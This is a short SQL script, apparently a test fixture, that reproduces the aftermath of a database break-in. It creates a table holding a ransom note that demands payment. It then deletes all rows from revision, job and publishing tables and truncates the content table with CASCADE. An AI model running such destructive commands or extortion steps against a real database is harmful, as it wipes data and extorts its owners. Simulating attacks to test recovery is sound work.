-- What a break-in into the database leaves behind: content is gone, a note demands money.
BEGIN;
CREATE TABLE readme_to_recover (note text);
INSERT INTO readme_to_recover VALUES ('Your data is with us. Pay, or it is published.');
DELETE FROM content_revisions;
DELETE FROM publishing_dlq;
DELETE FROM publish_attempts;
DELETE FROM publishing_jobs;
TRUNCATE content_items CASCADE;
COMMIT;
